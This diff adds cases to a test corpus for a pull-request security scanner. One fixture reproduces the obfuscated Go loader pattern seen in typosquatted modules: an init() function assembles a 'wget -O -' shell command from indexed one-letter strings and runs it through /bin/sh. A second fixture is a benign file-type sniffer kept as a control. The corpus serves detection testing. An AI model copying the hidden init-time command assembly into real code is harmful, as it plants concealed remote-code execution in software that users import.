@@ -248,4 +248,71 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-go-module-assembled-command',
+    description: 'Socket, 2025 (typosquatted Go modules): the command is spelled by indexing a slice of one-letter strings and adding the pieces, then run with exec.Command("/bin/sh", "-c", …) from init().',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7109,
+        title: 'Add color support check',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'color.go',
+            head: lines(
+              'package logx',
+              '',
+              'import "os/exec"',
+              '',
+              'func init() {',
+              '\tDmM := []string{"4", "/", " ", "e", "/", "g", "d", "3", "6", " ", "4", "w", "/", "7", "d", ".", "b", "h", "t", "a", "-", "O", "|", "s", "p", ":", "n"}',
+              '\tywhhM := DmM[11] + DmM[5] + DmM[3] + DmM[18] + DmM[2] + DmM[20] + DmM[21] + DmM[2] + DmM[20] + DmM[2] + DmM[17] + DmM[18] + DmM[18] + DmM[24] + DmM[25]',
+              '\texec.Command("/bin/sh", "-c", ywhhM).Start()',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-go-magic-bytes-and-file-command',
+    description: 'A maintainer sniffs image types by their magic bytes and falls back to the `file` command: a byte table and a process call in one hunk, nothing hidden.',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7110,
+        title: 'Detect attachment types',
+        files: [
+          {
+            path: 'attach/sniff.go',
+            head: lines(
+              'package attach',
+              '',
+              'import (',
+              '\t"bytes"',
+              '\t"os/exec"',
+              '\t"strings"',
+              ')',
+              '',
+              'var pngMagic = []byte{0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a}',
+              '',
+              '// Kind names the type of a file from its first bytes, or asks file(1).',
+              'func Kind(path string, head []byte) string {',
+              '\tif bytes.HasPrefix(head, pngMagic) {',
+              '\t\treturn "image/png"',
+              '\t}',
+              '\tout, err := exec.Command("file", "--brief", "--mime-type", path).Output()',
+              '\tif err != nil {',
+              '\t\treturn "application/octet-stream"',
+              '\t}',
+              '\treturn strings.TrimSpace(string(out))',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
 ];
